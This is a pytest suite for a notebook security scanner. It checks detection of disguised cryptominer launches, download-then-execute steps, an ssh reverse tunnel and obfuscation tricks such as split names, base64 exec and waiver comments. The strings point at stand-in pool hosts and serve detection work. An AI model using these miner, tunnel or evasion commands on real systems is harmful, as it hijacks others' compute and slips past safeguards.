"""IPython syntax is read the way IPython runs it, and only use counts as evidence."""
import pytest

MINER = "./xmrig -o stratum+tcp://pool.example.net:3333 -u w -p x"


def rules(engine, code, **kw):
    return {f.rule_id for f in engine.check_cell(code, **kw).findings}


@pytest.mark.parametrize("code", [
    f"!{MINER}",
    f"out = !{MINER}",
    f"%%bash\n{MINER}\n",
    f"%%sh\ncd /tmp\n{MINER}\n",
    f"%%script bash\n{MINER}\n",
    f"%%capture\n!{MINER}\n",
    f"import os\nos.system('{MINER}')",
    f"import subprocess\nsubprocess.run('{MINER}', shell=True)",
    f"import subprocess as sp\nsp.Popen({MINER.split()!r})",
    f"get_ipython().system('{MINER}')",
    f"get_ipython().run_cell_magic('bash', '', '{MINER}\\n')",
    f"for i in range(3):\n    !{MINER}\n",
    f"%%writefile run.sh\n{MINER}\n",
    f"!bash -c '{MINER}'",
    f"!sudo nohup {MINER} &",
    f"%sx {MINER}",
    f"import asyncio\ncmd = {MINER.split()!r}\nasyncio.create_subprocess_exec(*cmd)",
    f"import asyncio\nasyncio.create_subprocess_exec(*{MINER.split()!r})",
])
def test_every_way_to_reach_a_shell(engine, code):
    assert "NBW202" in rules(engine, code), code


@pytest.mark.parametrize("code", [
    f"print('{MINER}')",
    f"# !{MINER}\nx = 1",
    f'"""Never run: {MINER}"""\nx = 1',
    f"def f():\n    '''{MINER}'''\n    return 1",
    f"import logging\nlogging.info('{MINER}')",
    f"print(f'do not run {{MINER}} here: {MINER}')",
])
def test_a_word_in_a_print_or_comment_is_not_use(engine, code):
    assert rules(engine, code) == set(), code


def test_pip_installs_become_package_facts(engine):
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import Unit
    col = Collector()
    col.run(Unit("%pip install -q Pyngrok==7.0 'insightface>=0.7'\n!python -m pip install onnxruntime-gpu"))
    pkgs = {f.value for f in col.facts if f.kind == "package"}
    assert {"pyngrok", "insightface", "onnxruntime-gpu"} <= pkgs


@pytest.mark.parametrize("line, expected", [
    ("apt-get -y install libfoo-dev bar", {"libfoo-dev", "bar"}),       # options before the sub-command
    ("sudo apt -qq -o Dpkg::Use-Pty=0 install baz", {"baz"}),           # an option that takes a value
    ("pkg install libqux nano -y", {"libqux", "nano"}),                 # Termux's installer
    ("pip -q install sample-lib", {"sample-lib"}),
])
def test_installer_options_before_the_sub_command(line, expected):
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import SHELL, Unit
    col = Collector()
    col.run(Unit(line + "\n", SHELL))
    assert {f.value for f in col.facts if f.kind == "package"} == expected


def test_import_aliases_resolve_in_calls(engine):
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import Unit
    col = Collector()
    col.run(Unit("from pyngrok import ngrok as n\nimport insightface.app as ia\nn.connect(7860)\nia.FaceAnalysis(name='x')"))
    calls = {f.value for f in col.facts if f.kind == "call"}
    assert {"pyngrok.ngrok.connect", "insightface.app.FaceAnalysis"} <= calls
    kw = {f.value for f in col.facts if f.kind == "kwarg"}
    assert "FaceAnalysis:name=x" in kw


TUNNEL_RUN = "s.run('ssh -o StrictHostKeyChecking=no -R 80:localhost:7860 nokey@localhost.run', shell=True)"


def test_import_aliases_hold_for_later_cells_of_a_notebook(engine):
    """A kernel has one namespace: `import subprocess as s` in cell 1 makes `s.run(...)` in
    cell 2 a shell command, in a scan of the notebook and in a session's cells alike."""
    import json
    nb = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "metadata": {}, "outputs": [], "source": src}
        for src in ("import subprocess as s", TUNNEL_RUN)]}
    scanned = {f.rule_id for f in engine.scan_bytes(json.dumps(nb).encode(), "x.ipynb").findings}
    alone = rules(engine, TUNNEL_RUN)
    assert "NBW305" in scanned and "NBW305" not in alone  # the ssh -R command itself, read as one
    ctx = engine.new_context()
    engine.check_cell("import subprocess as s", ctx)
    assert "NBW305" in rules(engine, TUNNEL_RUN, context=ctx)


def test_a_replayed_cell_is_checked_anew_once_an_alias_it_names_changes(engine):
    ctx = engine.new_context()
    assert "NBW305" not in rules(engine, TUNNEL_RUN, context=ctx)
    before = ctx.aliases
    engine.check_cell("import numpy as np", ctx)  # an alias the cell does not name
    assert "NBW305" not in rules(engine, TUNNEL_RUN, context=ctx)
    engine.check_cell("import subprocess as s", ctx)
    assert ctx.aliases is not before and ctx.aliases["s"] == "subprocess"
    assert "NBW305" in rules(engine, TUNNEL_RUN, context=ctx)
    same = ctx.aliases
    engine.check_cell("import subprocess as s", ctx)  # run again: nothing new, the same state object
    assert ctx.aliases is same


SPLIT_TOOL = 'tool = "./xm" + "rig"\npool = "pool.example.net:3333"'
RUN_TOOL = "!{tool} -o {pool} -u w -p x --donate-level 1"


def test_variables_hold_for_later_cells_of_a_session_as_in_a_scan(engine):
    """A session's cells share their variables as a scan of the notebook does: the miner's
    name split in cell 1 is folded into cell 2's `!{tool}` in both; cell 2 alone shows less."""
    import json
    nb = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "metadata": {}, "outputs": [], "source": src} for src in (SPLIT_TOOL, RUN_TOOL)]}
    scanned = {f.rule_id for f in engine.scan_bytes(json.dumps(nb).encode(), "x.ipynb").findings}
    alone = rules(engine, RUN_TOOL)
    ctx = engine.new_context()
    engine.check_cell(SPLIT_TOOL, ctx)
    session = rules(engine, RUN_TOOL, context=ctx)
    assert "NBW202" in scanned and "NBW202" not in alone  # the miner's name is the variable's value
    assert session == scanned


def test_a_replayed_cell_is_checked_anew_once_a_variable_it_reads_changes(engine, monkeypatch):
    import nbwarden.engine as eng
    made = []
    real = eng.Collector
    monkeypatch.setattr(eng, "Collector", lambda *a, **k: made.append(1) or real(*a, **k))
    ctx = engine.new_context()
    engine.check_cell(SPLIT_TOOL, ctx)
    assert "NBW202" in rules(engine, RUN_TOOL, context=ctx)
    engine.check_cell("unrelated = 'x' + 'y'", ctx)  # a variable the cell does not read
    n = len(made)
    assert "NBW202" in rules(engine, RUN_TOOL, context=ctx) and len(made) == n, "replayed, not analysed again"
    engine.check_cell('tool = "echo"', ctx)
    assert "NBW202" not in rules(engine, RUN_TOOL, context=ctx) and len(made) == n + 2


def test_a_cell_that_reads_a_variable_it_assigns_is_replayed_when_run_again(engine, monkeypatch):
    """A cell that reads the session's `y` (an f-string above the line that sets it, a loop),
    then sets it: run again, the session's `y` is the cell's own, which must not count as a
    change, or such cells would be analysed twice."""
    import nbwarden.engine as eng
    made = []
    real = eng.Collector
    monkeypatch.setattr(eng, "Collector", lambda *a, **k: made.append(1) or real(*a, **k))
    ctx = engine.new_context()
    code = 'for i in range(3):\n    label = f"step {y}"\n    y = "v" + str(i)\n' + RUN_TOOL
    engine.check_cell(code, ctx)
    engine.check_cell(code, ctx)
    assert len(made) == 1 and "y" in ctx.names


def test_rollback_forgets_a_refused_cells_variables(engine):
    ctx = engine.new_context()
    mark = ctx.checkpoint()
    engine.check_cell(SPLIT_TOOL, ctx)
    assert "tool" in ctx.names
    ctx.rollback(mark)
    assert ctx.names == {} and "NBW202" not in rules(engine, RUN_TOOL, context=ctx)


def test_a_session_keeps_only_variables_a_fold_can_use(engine):
    ctx = engine.new_context()
    engine.check_cell("big = [" + ",".join(["1"] * 500) + "]\nd = {'a': 1}\nn = 3\ncmd = ['ls', '-l']\n"
                      "blob = '" + "x" * 70_000 + "'\nhidden = '" + "x" * 1000 + "'", ctx)
    assert set(ctx.names) == {"n", "cmd", "hidden"}


def test_rollback_forgets_a_refused_cells_imports(engine):
    ctx = engine.new_context()
    mark = ctx.checkpoint()
    engine.check_cell("import subprocess as s\n" + "!" + MINER, ctx)
    ctx.rollback(mark)
    assert ctx.aliases == {} and "NBW305" not in rules(engine, TUNNEL_RUN, context=ctx)


def test_a_written_python_file_has_its_own_imports():
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import Unit
    col = Collector()
    col.run(Unit("%%writefile helper.py\nimport subprocess as s\n"))
    col.run(Unit("s.run('x')"))
    assert "s.run" in {f.value for f in col.facts if f.kind == "call"}


def test_shell_variables_are_expanded(engine):
    code = "%%bash\nPOOL=stratum+tcp://pool.example.net:3333\nW=48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD\n./worker -o $POOL -u ${W} --donate-level 1\n"
    assert {"NBW201", "NBW203"} <= rules(engine, code)


def test_broken_python_falls_back_to_text(engine):
    code = "x = (\n!" + MINER + "\nstill broken ((("
    r = engine.check_cell(code)
    assert r.error is None


def test_evidence_points_at_the_line(engine):
    r = engine.check_cell(f"x = 1\ny = 2\n!{MINER}\n", cell=4)
    ev = [e for f in r.findings for e in f.evidence]
    assert ev and all(e.cell == 4 and e.line == 3 for e in ev)
    assert MINER in ev[0].snippet


def test_context_download_then_run(engine):
    ctx = engine.new_context()
    url = "https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz"
    assert engine.check_cell(f"release = '{url}'", ctx).findings == [], "naming a URL is not running anything"
    r = engine.check_cell("!wget -q $release", ctx)
    cells = {e.cell for f in r.findings for e in f.evidence}
    assert "NBW202" in {f.rule_id for f in r.findings}
    assert cells == {0, 1}, "the finding cites the URL in cell 0 and the download in cell 1"
    again = engine.check_cell("x = 1", ctx)
    assert again.findings == [], "findings made only of earlier cells are not repeated"


def test_context_carries_shell_state(engine):
    ctx = engine.new_context()
    assert engine.check_cell("!wget https://example.org/dl/tool -O tool && chmod +x tool", ctx).findings == []
    r = engine.check_cell("!./tool bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", ctx)
    assert "NBW207" in {f.rule_id for f in r.findings}


def test_content_hash_is_stable_when_other_cells_move(engine):
    a = engine.scan_units(_units(["x = 1", f"!{MINER}"]), "a")
    b = engine.scan_units(_units(["import numpy", "y = 2", "z = 3", f"!{MINER}"]), "b")
    assert {f.content_hash for f in a.findings} == {f.content_hash for f in b.findings}


def _units(cells):
    from nbwarden.engine.model import Unit
    return [Unit(c, cell=i) for i, c in enumerate(cells)]


def test_argv_is_never_resplit(engine):
    code = "import time\nt = time.time() + 60\nwhile time.time() < t: pass\n"
    argv = ["/dev/shm/.kw", "-c", code, "-o", "stratum+tcp://127.0.0.1:4444", "-u", "w", "--donate-level", "1"]
    assert {"NBW201", "NBW203"} <= {f.rule_id for f in engine.check_command(argv).findings}


def test_quoted_argument_spanning_lines(engine):
    script = "python3 -c '\nimport os\nos.system(\"./xmrig -o stratum+tcp://pool.example.net:3333 -u w\")\n' && echo done\n"
    r = engine.scan_bytes(script.encode(), "run.sh")
    assert "NBW201" in {f.rule_id for f in r.findings}
    ev = [e for f in r.findings for e in f.evidence]
    assert {e.line for e in ev} == {1, 3}, "the python3 -c line, and the line of the file where os.system stands"


def test_a_heredoc_inside_a_quoted_substitution_does_not_swallow_the_rest(engine):
    # X="$(python - <<'PY' ... PY)": the body's own quotes must not leave the line "open"
    # and hide every later command (before, the rest of the file became one argument)
    script = (
        'DIRS="$(\n'
        "  python - <<'PY' || true\n"
        'print("it\'s one")\n'
        "PY\n"
        ')"\n'
        "./xmrig -o stratum+tcp://pool.example.net:3333 -u w -p x\n"
    )
    r = engine.scan_bytes(script.encode(), "start.sh")
    assert "NBW201" in {f.rule_id for f in r.findings}
    assert {e.line for f in r.findings if f.rule_id == "NBW201" for e in f.evidence} == {6}


def test_colab_form_options_are_values_the_code_can_receive():
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import PYTHON, Unit
    code = 'x = 1\nmethod = "gradio"  #@param ["gradio", "ngrok", \'cloudflared\']\ntoken = "" # @param {type:"string"}\n'
    col = Collector()
    col.run(Unit(code, PYTHON))
    options = {(f.value, f.line) for f in col.facts if f.kind == "string"}
    assert {("ngrok", 2), ("cloudflared", 2)} <= options
    assert not any(f.value.startswith("type") for f in col.facts if f.kind == "string")
    col = Collector()  # a comment that is not a form field stays a comment
    col.run(Unit('x = 1  # choose from ["ngrok", "other"]\n', PYTHON))
    assert "ngrok" not in {f.value for f in col.facts}


def test_one_syntax_error_loses_that_statement_not_the_file(engine):
    # paste_back= is a keyword argument: only the syntax tree sees it, never the text fallback
    code = ("import insightface\n"
            "@decorator\n"
            "def g():\n"
            "    return 1\n"
            "this line is not python\n"
            "if True:\n"
            "    x = 1\n"
            "else:\n"
            "    x = 2\n"
            "def f(frame, target, source):\n"
            "    swapper = insightface.model_zoo.get_model('model.onnx')\n"
            "    return swapper.get(frame, target, source, paste_back=True)\n")
    r = engine.scan_bytes(code.encode(), "broken.py")
    assert r.error is None
    lines = {e.line for f in r.findings if f.rule_id == "NBW102" for e in f.evidence}
    assert 12 in lines, (lines, [f.rule_id for f in r.findings])
    # everything broken: still read as text, no error
    assert engine.scan_bytes(b"this is ( not\npython ]\n", "x.py").error is None


# Cells Python rejects. The engine tries IPython's transformation only when
# has_ipython_syntax says IPython would change something; these check that claim against
# IPython itself, both ways.
_BROKEN_PLAIN = [
    "x = # TODO\nprint('done!')",
    "print 'value: %d' % x",
    "if a != b\n    pass",
    "s = '100%'\nloss = # TODO",
    "\n\n  \nx = (1,\n",
]
_BROKEN_IPYTHON = [
    "  %%html\n  <b>hi</b>",
    "%%HTML\n<video autoplay loop>",
    "obj?\nx = # 100%",
    "x = %time f(\n",
    ">>> x = 1\n>>> print(x!r)",
    "In [1]: x = 1 % 2 +\n   ...: 3\n",
    "  x = 1\n  y = 2 % 3",
    "a = 1\n\x0c!ls -la\n",
    ",f a b\n%matplotlib inline",
]


@pytest.mark.parametrize("code", _BROKEN_PLAIN + _BROKEN_IPYTHON)
def test_ipython_is_tried_whenever_it_could_help(code):
    ipython = pytest.importorskip("IPython.core.inputtransformer2", reason="IPython is not installed")
    from nbwarden.engine.extract.ipython import has_ipython_syntax
    from nbwarden.engine.extract.python import _parse
    assert _parse(code) is None
    transformed = ipython.TransformerManager().transform_cell(code)
    if not has_ipython_syntax(code):
        assert code in _BROKEN_PLAIN
        assert _parse(transformed) is None, "IPython would have read this cell: the test must say so"
    else:
        assert code in _BROKEN_IPYTHON


def test_a_cell_run_again_is_checked_as_if_new(engine):
    """Re-run cells are replayed from the session's memory; the reports must be those of a
    session that never remembered a cell's own hits (shell cells only from the same state)."""
    from pathlib import Path

    from nbwarden.engine.readers import read_units
    examples = Path(__file__).resolve().parents[2] / "examples"
    cells = [u.code for p in sorted(examples.rglob("*.ipynb")) for u in read_units(p.read_bytes(), p.name)]
    cells += ["s.run('ssh -R 80:localhost:7860 nokey@localhost.run', shell=True)", "import subprocess as s",
              "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3htcmlnJyk='))",
              "# nbwarden: allow NBW202 -- benchmark\nimport os\nos.system('xmrig -o stratum+tcp://p:3333')",
              "!chmod +x tool", "!./tool -o stratum+tcp://p:3333", "x = 1"]
    assert len(cells) > 10
    cached, fresh = engine.new_context(), engine.new_context()
    for n, code in enumerate(cells + cells[::-1] + cells):
        remember = n % 3 != 1
        fresh.seen.clear()
        assert engine.check_cell(code, cached, remember=remember).to_dict() == \
            engine.check_cell(code, fresh, remember=remember).to_dict(), code
    assert any(k[1].startswith("!") and v[1] is not None for k, v in cached.seen.items()), \
        "shell cells are remembered with the state they were checked against"


def test_a_shell_cell_is_replayed_only_from_the_state_it_was_checked_in(engine):
    """``./w -o $POOL`` shows a pool only once ``POOL`` is set. Run again with the state
    unchanged, the remembered hits are replayed (and the state after them kept); once an
    earlier cell changed the state, the cell is checked anew, as in a fresh session."""
    run = "!nohup ./w -o $POOL --threads 2 &"
    setting = "!export POOL=stratum+tcp://pool.example.net:3333"
    ctx = engine.new_context()
    assert engine.check_cell(run, ctx).verdict == "allow"
    state = ctx.shell
    assert engine.check_cell(run, ctx).verdict == "allow" and ctx.shell is state
    assert ctx.seen[("python", run)][1] is state, "remembered with the state it was checked in"
    engine.check_cell(setting, ctx)
    assert ctx.shell is not state and ctx.shell.vars["POOL"].startswith("stratum")
    flagged = engine.check_cell(run, ctx)
    assert flagged.verdict == "flag" and "NBW201" in {f.rule_id for f in flagged.findings}
    again = engine.check_cell(run, ctx)
    assert again.verdict == "flag" and [f.rule_id for f in again.findings] == [f.rule_id for f in flagged.findings]
    after = ctx.shell
    engine.check_cell(setting, ctx)  # replayed: the state after it is the one it made before
    assert ctx.shell.vars == after.vars


def test_rollback_forgets_a_refused_cell_exactly(engine):
    def state():
        return {leaf: [f.value for f in fs] for leaf, fs in ctx.hits.items()}, dict(ctx.waivers), ctx.cells

    ctx = engine.new_context()
    engine.check_cell("!wget https://example.org/x/svc && chmod +x svc", ctx)
    before = state()
    mark = ctx.checkpoint()
    engine.check_cell(f"# nbwarden: allow NBW202 -- test\n!{MINER}", ctx)
    after = state()
    assert after[0] != before[0] and after[1] != before[1] and after[2] == before[2] + 1
    ctx.rollback(mark)
    assert state() == before


def test_rollback_forgets_a_refused_cells_shell_state(engine):
    """``export``, ``%env`` and ``chmod +x`` in a refused cell must not reach later cells: a
    later cell reads exactly as in a session where the refused one never came."""
    first = "!export DATA=/srv/data && chmod +x prep"
    refused = ("%env POOL=stratum+tcp://pool.example.net:3333\n!export W=WALLET\n%cd /tmp\n"
               "!cd /tmp && wget https://example.org/x/tool && chmod +x tool\n!" + MINER)
    later = ["!./tool -o $POOL -u $W", "!./prep $DATA", "!echo $POOL"]

    def state(c):
        return dict(c.shell.vars), set(c.shell.chmodded), c.cells

    ctx, fresh = engine.new_context(), engine.new_context()
    engine.check_cell(first, ctx)
    engine.check_cell(first, fresh)
    before = state(ctx)
    assert before[0] == {"DATA": "/srv/data"} and before[1] == {"prep"}
    mark = ctx.checkpoint()
    assert engine.check_cell(refused, ctx).verdict == "flag"
    assert state(ctx) != before and "POOL" in ctx.shell.vars and "tool" in ctx.shell.chmodded
    ctx.rollback(mark)
    assert state(ctx) == before
    for code in later:
        assert engine.check_cell(code, ctx).to_dict() == engine.check_cell(code, fresh).to_dict(), code
    # the refused cell, had it run, would have made the first of them a miner
    assert engine.check_cell(refused, fresh).verdict == "flag"
    assert engine.check_cell(later[0], fresh).verdict == "flag"


def test_checking_without_remembering_leaves_the_shell_state_alone(engine):
    ctx = engine.new_context()
    engine.check_cell("!export A=1", ctx)
    shell = ctx.shell
    engine.check_cell("!export A=2 B=3 && chmod +x tool", ctx, remember=False)
    assert ctx.shell is shell and shell.vars == {"A": "1"} and not shell.chmodded
    engine.check_cell("!export B=3", ctx)
    assert ctx.shell.vars == {"A": "1", "B": "3"} and shell.vars == {"A": "1"}, "a session's state is replaced, not changed"


def test_a_sessions_location_reads_like_a_scan_of_its_notebook(engine):
    """A context that knows its notebook's path gives each cell the ``location`` a scan of
    that notebook gives it: the same findings either way, inside a detection benchmark's
    repository (where name-level deepfake rules give way) and outside it."""
    import json
    cells = ["repo = 'https://github.com/s0md3v/roop'", "!git clone https://github.com/s0md3v/roop", "x = 1",
             "!" + MINER]
    for path in ("FaceForensics/dataset/demo.ipynb", "notebooks/demo.ipynb"):
        ctx = engine.new_context(location=path)
        for code in cells:
            nb = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
                {"cell_type": "code", "metadata": {}, "outputs": [], "source": code}]}).encode()
            scanned = engine.scan_bytes(nb, path)
            checked = engine.check_cell(code, ctx, cell=0, remember=False)
            assert [(f.rule_id, f.confidence) for f in checked.findings] == \
                [(f.rule_id, f.confidence) for f in scanned.findings], (path, code)
    assert engine.check_cell(cells[0], engine.new_context(location="FaceForensics/x.ipynb")).verdict == "allow"
    assert engine.check_cell(cells[0], engine.new_context()).verdict == "flag"


def test_cells_whose_first_code_line_is_an_escape_skip_only_parses_python_rejects():
    """The parse skipped for cells like ``!pip install x`` first must be one Python would
    reject: checked on random cells built from the characters that could make it pass
    (comments, backslashes, carriage returns, brackets, quotes, indentation)."""
    import ast
    import random
    import warnings

    from nbwarden.engine.extract.python import _REJECTED_BY_PYTHON
    pieces = ["\n", " ", "\t", "#", "# c", "\\", "\r", "\r\n", "\x0c", "!", "%", "%%", "(", ")", "'''", '"', "x",
              "=", "1", "ls", "\ufeff", ":", "if x:", "    "]
    rng = random.Random(7)
    skipped = 0
    for _ in range(20000):
        code = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 10)))
        if _REJECTED_BY_PYTHON.match(code):
            skipped += 1
            with warnings.catch_warnings(), pytest.raises((SyntaxError, ValueError)):
                warnings.simplefilter("ignore")
                ast.parse(code)
    assert skipped > 1000
    for code in ("!pip install x", "# @title Setup\n\n%cd /content\nimport os", "  !ls"):
        assert _REJECTED_BY_PYTHON.match(code), code
    for code in ("x = (1\n%2)", "'''\n!ls'''", "# a\\\n%x", "# a\r(1\n%2)"):
        assert not _REJECTED_BY_PYTHON.match(code), code


@pytest.mark.parametrize("script,command", [
    # a command substitution is part of its word, not the end of the command
    ("./w -o $(cat pool.txt) -u W -p x --donate-level 1\n", "w -o ? -u W -p x --donate-level 1"),
    ("./w -o $(< pools/a.pool) -u `cat w.addr` -p x\n", "w -o ? -u ? -p x"),
    ("./w -u $ADDR.$(hostname) -p x --coin XMR\n", "w -u $ADDR.? -p x --coin XMR"),
    # the body of a one-line loop or if is a command of its own
    ("while true; do ./w --cpu-devices 1; sleep 5; done\n", "w --cpu-devices 1"),
    ("if [ -f w ]; then ./w --threads 2; else echo no; fi\n", "w --threads 2"),
])
def test_shell_commands_are_read_whole(script, command):
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import SHELL, Unit
    col = Collector()
    col.run(Unit(script, SHELL))
    commands = {f.value for f in col.facts if f.kind == "command"}
    assert command in commands, commands
    assert not {c for c in commands if c.split()[0] in ("do", "then", "else", "-u", "-p")}, commands


@pytest.mark.parametrize("script,command", [
    ('screen -x -S w -p 0 -X stuff "./w -o stratum+tcp://pool.example:3333 -u W -p x\\n"\n',
     "w -o stratum+tcp://pool.example:3333 -u W -p x"),
    ('tmux send-keys -t mine "./w -o stratum+tcp://pool.example:443 -u W" Enter\n',
     "w -o stratum+tcp://pool.example:443 -u W"),
    ('tmux new-session -d -s web "./w -o pool.example:3333 -u W"\n', "w -o pool.example:3333 -u W"),
    ("screen -dmS cpu sudo ./w --coin monero -o pool.example:3333\n", "w --coin monero -o pool.example:3333"),
])
def test_commands_run_inside_screen_or_tmux(script, command):
    """A command typed into or started in a screen / tmux session is a command of its own."""
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import SHELL, Unit
    col = Collector()
    col.run(Unit(script, SHELL))
    assert command in {f.value for f in col.facts if f.kind == "command"}


def test_a_line_echoed_into_a_script_is_read_as_that_script():
    """Launchers write the worker's command line into a script and run it: the line is read
    as shell (or Python for *.py); echo to any other file stays an echo."""
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import SHELL, Unit
    col = Collector()
    col.run(Unit('echo "./w -o stratum+tcp://pool.example:3333 -u W -p x" >> run.sh\nbash run.sh\n'
                 'echo "./x --share" > notes.txt\nprintf "import os\\nos.system(\'./y\')\\n" > job.py\n', SHELL))
    commands = {f.value for f in col.facts if f.kind == "command"}
    programs = {f.value for f in col.facts if f.kind == "program"}
    assert "w -o stratum+tcp://pool.example:3333 -u W -p x" in commands
    assert "x" not in programs, "text echoed into a .txt file is not a command"
    assert "y" in programs, "a .py file written by printf is read as Python"


@pytest.mark.parametrize("code, shell", [
    ("import os\nx = 1\n!./tool -o stratum+tcp://pool.example.net:3333\nprint(x)", True),
    ("def f():\n    y = 2\n    !./tool -o stratum+tcp://pool.example.net:3333\n    return y", True),
    ("try:\n    pass\nexcept Exception:\n    files = !ls /tmp\n", True),
    # an escape-looking line inside a string or a bracket: the cell is Python, and that line is not a command
    ('DOC = """\nRun it with:\n!./tool -o stratum+tcp://pool.example.net:3333\n"""\nprint(len(DOC))', False),
    ("ok = (1\n!= 2)\nz = (10\n% 3)", False),
])
def test_escape_lines_inside_a_cell_are_read_as_ipython_runs_them(code, shell):
    """A cell with ``!cmd`` after some Python is read the IPython way without first paying
    for Python's certain rejection of it; a line that only looks like an escape (inside a
    string or a bracket) leaves the cell plain Python, as IPython itself leaves it."""
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import Unit
    col = Collector()
    col.run(Unit(code, "python", cell=0))
    programs = [f.value for f in col.facts if f.kind in ("program", "command")]
    assert bool(programs) == shell, programs
    assert not col.notes, col.notes
    if not shell and "DOC" in code:
        assert any(f.kind == "string" and "stratum" in f.value for f in col.facts), "the string is still a string"


def _dockerfile_facts(text: str):
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.readers import read_units
    col = Collector()
    for u in read_units(text.encode(), "Dockerfile"):
        col.run(u)
    return col


def test_dockerfile_env_values_and_continued_installs_are_read():
    text = ('FROM alpine\nENV POOL="stratum+ssl://pool.example.org:443" ALGO=randomx\nENV LEGACY some value\n'
            'RUN apk --no-cache add \\\n    git \\\n    libuv-dev && \\\n    echo done\nCMD ["./svc"]\n')
    col = _dockerfile_facts(text)
    strings = {f.value for f in col.facts if f.kind == "string"}
    assert {"stratum+ssl://pool.example.org:443", "randomx", "some value"} <= strings
    assert {f.value for f in col.facts if f.kind == "package"} == {"git", "libuv-dev"}
    assert "svc" in {f.value for f in col.facts if f.kind == "program"}


def test_dockerfile_copy_and_add_are_read_as_the_copy_or_download_they_do():
    text = ('FROM alpine\nCOPY --chown=1:1 ./a.sed \\\n    ./b.h ./\nADD https://example.org/x.tar.gz /opt/\n'
            'COPY ["c d", "/e"]\nCOPY <<EOF /f\nhello\nEOF\nCOPY lone\n')
    col = _dockerfile_facts(text)
    commands = [f.value for f in col.facts if f.kind == "command"]
    assert commands == ["cp ./a.sed ./b.h ./", "curl -fsSLo /opt/ https://example.org/x.tar.gz", "cp c d /e"]
    assert "https://example.org/x.tar.gz" in {f.value for f in col.facts if f.kind == "url"}


def test_split_pieces_next_to_a_variable_are_joined_back():
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import Unit
    col = Collector()
    col.run(Unit("def url(host, port):\n    return '--url=stra' + 'tum+tcp://' + host + ':' + str(port)\n"))
    assert "--url=stratum+tcp://" in {f.value for f in col.facts if f.kind == "string"}


def test_a_package_list_held_in_a_variable_gives_each_package():
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import SHELL, Unit
    col = Collector()
    col.run(Unit('DEPS="libfoo-dev \t libbar-dev  baz"\napt-get install -y ${DEPS}\n', SHELL))
    assert {f.value for f in col.facts if f.kind == "package"} == {"libfoo-dev", "libbar-dev", "baz"}


def test_class_fields_become_constructor_kwargs(engine):
    # a dataclass / pydantic / tyro argument class declares keywords of its constructor,
    # as an argparse parser declares options: read them as kwarg facts of the class
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import Unit
    col = Collector()
    col.run(Unit("from dataclasses import dataclass\n@dataclass\nclass Args:\n"
                 "    driving_video: str = 'clip.mp4'\n    fps: int = 25\n    note = 'no annotation'\n"
                 "    def run(self):\n        local: int = 1\n"))
    kwargs = {f.value for f in col.facts if f.kind == "kwarg"}
    assert {"Args:driving_video=clip.mp4", "Args:fps=25"} <= kwargs
    assert not any(k.startswith(("Args:note", "Args:local", "run:local")) for k in kwargs)

def test_ipython_expands_python_variables_in_shell_lines(engine):
    """IPython substitutes {name} and $name in `!` lines with Python values before the shell
    runs them; names set in an earlier cell of the same notebook count (one kernel)."""
    import json
    cells = [
        "import base64\npart = base64.b64decode('eG1y').decode()  # 'xmr'\ntool = f'{part}ig'\n",
        "pool = 'stratum+tcp://pool.example.net:3333'\n!./{tool} -o $pool -u w\n",
    ]
    nb = {"nbformat": 4, "nbformat_minor": 5, "metadata": {},
          "cells": [{"cell_type": "code", "source": c, "metadata": {}, "outputs": [], "execution_count": None}
                    for c in cells]}
    r = engine.scan_bytes(json.dumps(nb).encode(), "n.ipynb")
    assert "NBW202" in {f.rule_id for f in r.findings}


def test_ipython_expansion_leaves_unknown_and_escaped_names(engine):
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import Unit
    col = Collector()
    col.run(Unit("x = 'abc'\n!echo {x} {{x}} $x $$x {y} $HOME\n"))
    cmds = {f.value for f in col.facts if f.kind == "command"}
    assert any(c.startswith("echo abc {{x}} abc $$x {y}") for c in cmds), cmds


def test_a_cell_that_imports_what_it_uses_is_replayed_when_run_again(engine, monkeypatch):
    """Its own `import numpy as np` sets the session's `np`; running it again must not count
    that as a changed alias (it binds `np` itself), or almost no cell would ever replay."""
    import nbwarden.engine as eng
    made = []
    real = eng.Collector
    monkeypatch.setattr(eng, "Collector", lambda *a, **k: made.append(1) or real(*a, **k))
    ctx = engine.new_context()
    code = "import numpy as np\nimport subprocess as s\nx = np.zeros(3)\n" + TUNNEL_RUN
    first = engine.check_cell(code, ctx)
    again = engine.check_cell(code, ctx)
    assert len(made) == 1, "the second run is replayed, not analysed again"
    assert [f.rule_id for f in again.findings] == [f.rule_id for f in first.findings] and "NBW305" in \
        {f.rule_id for f in first.findings}


def test_a_command_built_with_plus_keeps_its_known_pieces():
    """`os.system(prog + algo + server + user)` where one piece is known only at run time (a
    host read from the web): the command is read with `{}` for the unknown piece, as an
    f-string's unknown field is, instead of not at all. A chain that is mostly unknown is not
    read (nothing to say about it)."""
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import Unit
    col = Collector()
    col.run(Unit("import os, requests\nhost = requests.get('http://h.example/').text\n"
                 "prog = 'w' + ' '\nopts = '--algo ethash' + ' '\nsrv = '--server ' + host + ' '\n"
                 "cmd = prog + opts + srv + '--user 0xabc.' + nick\nos.system(cmd)\n"
                 "os.system(a + b + c + ' -v')\n"))
    cmds = [f.value for f in col.facts if f.kind == "command"]
    assert "w --algo ethash --server {} --user 0xabc.{}" in cmds
